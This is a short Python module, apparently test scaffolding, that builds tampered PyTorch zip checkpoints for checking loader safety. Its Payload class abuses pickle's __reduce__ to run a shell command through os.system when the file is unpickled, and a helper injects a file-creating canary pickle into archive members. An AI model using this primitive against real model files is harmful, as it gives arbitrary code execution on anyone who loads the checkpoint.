"""Torch's zip archives, taken apart and put together again by somebody who means no good."""

from __future__ import annotations

import os
import pickle
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

__all__ = ["Payload", "edit", "members", "pack", "payload"]


class Payload:
    """Unpickling it runs a command of the shell."""

    def __init__(self, command: str) -> None:
        self._command = command

    def __reduce__(self) -> tuple[Callable[[str], int], tuple[str]]:
        return os.system, (self._command,)


def payload(canary: Path) -> bytes:
    """A pickle that creates a file."""
    return pickle.dumps({"weight": Payload(f"touch {canary}")}, protocol=2)


def members(path: Path) -> dict[str, bytes]:
    """Members of an archive by name."""
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def pack(path: Path, content: Mapping[str, bytes], *, compressed: bool = False) -> Path:
    """Write an archive."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED) as archive:
        for name, data in content.items():
            archive.writestr(name, data)
    return path


def edit(source: Path, target: Path, changes: Mapping[str, bytes | Callable[[bytes], bytes]]) -> Path:
    """Copy an archive, with members (by the end of their names) replaced, or added below its root."""
    content = members(source)
    root = next(iter(content)).partition("/")[0]
    for name, change in changes.items():
        full = f"{root}/{name}"
        content[full] = change if isinstance(change, bytes) else change(content[full])
    return pack(target, content)
